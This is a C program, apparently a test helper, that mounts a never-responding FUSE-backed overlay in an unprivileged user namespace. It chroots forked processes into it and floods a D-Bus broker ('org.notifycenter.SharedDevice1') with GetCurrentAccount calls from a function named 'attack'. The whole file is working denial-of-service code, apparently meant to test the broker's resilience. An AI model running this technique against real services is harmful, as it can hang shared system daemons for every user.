// Calls the broker from processes whose root directory never responds: stuck-root BUS DIRECTORY. The program mounts in
// DIRECTORY. It writes “ready” when the first process has its response, and “cannot …” if the system does not allow
// this to an unprivileged process. It runs until it is killed.
//
// The directory is an overlay over a private FUSE file system. FUSE alone refuses other users without asking the
// program that serves it. The overlay asks this program in the name of the owner.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/fuse.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static void need(int is_done, const char *what) {
    if (is_done) return;
    printf("cannot %s: %s\n", what, strerror(errno));
    exit(77);
}

static void write_file(const char *path, const char *text) {
    int file = open(path, O_WRONLY | O_CLOEXEC);
    need(file >= 0 && write(file, text, strlen(text)) == (ssize_t)strlen(text), path);
    close(file);
}

// MARK: The file system

// Responds to the requests of a mount, but to no lookup.
static void serve(int device) {
    static char request[0x21000];
    for (;;) {
        if (read(device, request, sizeof request) < 0) {
            if (errno == EINTR || errno == ENOENT) continue;
            exit(0);
        }
        const struct fuse_in_header *in = (const void *)request;
        struct {
            struct fuse_out_header header;
            union {
                struct fuse_init_out init;
                struct fuse_attr_out attributes;
                struct fuse_statfs_out statfs;
            } body;
        } answer = {.header = {.unique = in->unique}};
        size_t size = 0;
        switch (in->opcode) {
        case FUSE_LOOKUP:
        case FUSE_FORGET:
        case FUSE_BATCH_FORGET: continue;
        case FUSE_INIT:
            answer.body.init = (struct fuse_init_out){.major = FUSE_KERNEL_VERSION, .minor = 31, .max_write = 4096};
            size = sizeof answer.body.init;
            break;
        case FUSE_GETATTR:
            answer.body.attributes.attr_valid = 3600;
            answer.body.attributes.attr = (struct fuse_attr){.ino = 1, .mode = S_IFDIR | 0755, .nlink = 2};
            size = sizeof answer.body.attributes;
            break;
        case FUSE_STATFS:
            answer.body.statfs.st = (struct fuse_kstatfs){.bsize = 512, .frsize = 512, .namelen = 255};
            size = sizeof answer.body.statfs;
            break;
        default: answer.header.error = -ENOSYS;
        }
        answer.header.len = sizeof answer.header + size;
        (void)!write(device, &answer, answer.header.len);
    }
}

/// Makes the directory that never responds. From here on the process has all capabilities in
/// a new user namespace, and keeps its user ID.
static void make_root(const char *directory, char *root, size_t length) {
    char path[256], lower[256], options[1024], map[64];
    unsigned user = getuid(), group = getgid();
    need(unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0, "make a user namespace");
    write_file("/proc/self/setgroups", "deny");
    snprintf(map, sizeof map, "%u %u 1", user, user);
    write_file("/proc/self/uid_map", map);
    snprintf(map, sizeof map, "%u %u 1", group, group);
    write_file("/proc/self/gid_map", map);
    snprintf(lower, sizeof lower, "%s/lower", directory);
    snprintf(path, sizeof path, "%s/empty", directory);
    snprintf(root, length, "%s/root", directory);
    need(mkdir(lower, 0755) == 0 && mkdir(path, 0755) == 0 && mkdir(root, 0755) == 0, "make directories");
    int device = open("/dev/fuse", O_RDWR | O_CLOEXEC);
    need(device >= 0, "open /dev/fuse");
    snprintf(options, sizeof options, "fd=%d,rootmode=40755,user_id=%u,group_id=%u", device, user, group);
    need(mount("stuck", lower, "fuse", MS_NOSUID | MS_NODEV, options) == 0, "mount a FUSE file system");
    if (fork() == 0) {
        prctl(PR_SET_PDEATHSIG, SIGKILL);
        serve(device);
    }
    close(device);
    snprintf(options, sizeof options, "lowerdir=%s:%s,userxattr", lower, path);
    need(mount("stuck", root, "overlay", 0, options) == 0, "mount an overlay");
}

// MARK: The bus

struct message {
    uint8_t bytes[512];
    uint32_t length;
};

static void append(struct message *message, const void *bytes, size_t count) {
    memcpy(message->bytes + message->length, bytes, count);
    message->length += count;
}

static void align(struct message *message) { message->length = (message->length + 7) & ~7u; }

static void append_field(struct message *message, uint8_t code, char type, const char *text) {
    uint8_t start[] = {code, 1, (uint8_t)type, 0}, short_length = (uint8_t)strlen(text);
    uint32_t long_length = strlen(text);
    align(message);
    append(message, start, sizeof start);
    if (type == 'g') append(message, &short_length, 1);
    else append(message, &long_length, 4);
    append(message, text, strlen(text) + 1);
}

/// A method call, with an empty dictionary as its argument or none.
static struct message call(
    uint32_t serial, const char *name, const char *path, const char *interface, const char *member, int has_argument
) {
    struct message message = {.bytes = {'l', 1, 0, 1}, .length = 16};
    uint32_t body = has_argument ? 8 : 0;
    append_field(&message, 1, 'o', path);
    append_field(&message, 6, 's', name);
    append_field(&message, 2, 's', interface);
    append_field(&message, 3, 's', member);
    if (has_argument) append_field(&message, 8, 'g', "a{sv}");
    uint32_t fields = message.length - 16;
    memcpy(message.bytes + 4, &body, 4);
    memcpy(message.bytes + 8, &serial, 4);
    memcpy(message.bytes + 12, &fields, 4);
    align(&message);
    message.length += body;
    return message;
}

static void read_all(int bus, void *bytes, size_t count) {
    for (size_t done = 0; done < count;) {
        ssize_t part = read(bus, (char *)bytes + done, count - done);
        if (part <= 0) exit(1);
        done += part;
    }
}

/// Waits for this number of responses.
static void await_answers(int bus, int count) {
    while (count > 0) {
        uint32_t header[4];
        static char rest[1 << 20];
        read_all(bus, header, sizeof header);
        size_t length = ((header[3] + 7) & ~7u) + header[1];
        if (length > sizeof rest) exit(1);
        read_all(bus, rest, length);
        uint8_t type = ((uint8_t *)header)[1];
        if (type == 2 || type == 3) count--;
    }
}

static int connect_to(const char *address) {
    struct sockaddr_un target = {.sun_family = AF_UNIX};
    const char *path = address + strlen("unix:path=");
    memcpy(target.sun_path, path, strcspn(path, ","));
    int bus = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (connect(bus, (struct sockaddr *)&target, sizeof target) != 0) exit(69);
    char identity[16], greeting[64] = "", line[128];
    snprintf(identity, sizeof identity, "%u", getuid());
    for (const char *digit = identity; *digit; digit++) sprintf(greeting + strlen(greeting), "%02x", *digit);
    int length = snprintf(line, sizeof line, "%cAUTH EXTERNAL %s\r\n", 0, greeting);
    (void)!write(bus, line, length);
    for (char byte = 0; byte != '\n';) read_all(bus, &byte, 1);
    const char *daemon = "org.freedesktop.DBus";
    struct message hello = call(1, daemon, "/org/freedesktop/DBus", daemon, "Hello", 0);
    (void)!write(bus, "BEGIN\r\n", 7);
    (void)!write(bus, hello.bytes, hello.length);
    await_answers(bus, 1);
    return bus;
}

static void attack(const char *address, const char *root) {
    prctl(PR_SET_PDEATHSIG, SIGKILL);
    int bus = connect_to(address);
    if (chroot(root) != 0) exit(1);
    const char *broker = "org.notifycenter.SharedDevice1";
    struct message question = call(2, broker, "/org/notifycenter/SharedDevice", broker, "GetCurrentAccount", 1);
    (void)!write(bus, question.bytes, question.length);
    await_answers(bus, 1);
    exit(0);
}

int main(int count, char **arguments) {
    if (count != 3) return 64;
    setvbuf(stdout, NULL, _IOLBF, 0);
    char root[256];
    make_root(arguments[2], root, sizeof root);
    int is_ready = 0, running = 0;
    for (;;) {
        for (; running < 8; running++) {
            if (fork() == 0) attack(arguments[1], root);
        }
        int status = 0;
        if (wait(&status) < 0) return 1;
        running--;
        if (!is_ready && WIFEXITED(status) && WEXITSTATUS(status) == 0) {
            is_ready = 1;
            printf("ready\n");
        }
    }
}
